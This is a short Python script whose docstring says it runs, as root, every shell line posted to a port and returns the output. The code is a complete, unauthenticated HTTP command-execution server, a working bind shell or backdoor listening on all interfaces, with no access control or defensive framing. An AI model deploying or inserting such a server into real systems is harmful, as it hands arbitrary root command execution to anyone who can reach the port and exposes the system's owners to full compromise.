"""Runs, as root, each line of shell that is posted to a port of this machine, and answers with what it prints."""

import http.server
import subprocess
import sys


class Shell(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        line = self.rfile.read(int(self.headers["Content-Length"]))
        ran = subprocess.run(["sh", "-c", line], capture_output=True, check=False)
        self.send_response(500 if ran.returncode else 200)
        self.end_headers()
        self.wfile.write(ran.stderr if ran.returncode else ran.stdout)


http.server.HTTPServer(("", int(sys.argv[1])), Shell).serve_forever()
